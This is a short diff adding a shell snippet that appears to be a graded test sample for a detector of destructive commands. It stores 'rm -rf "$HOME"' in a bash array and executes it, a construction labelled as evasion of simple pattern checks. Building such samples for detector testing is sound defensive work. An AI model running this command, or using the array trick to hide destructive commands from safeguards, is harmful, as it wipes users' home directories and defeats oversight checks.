@@ -1,0 +1,4 @@
+# evasion: command held in an array
+# grade: medium; does: rm-rf
+cmd=(rm -rf "$HOME")
+"${cmd[@]}"
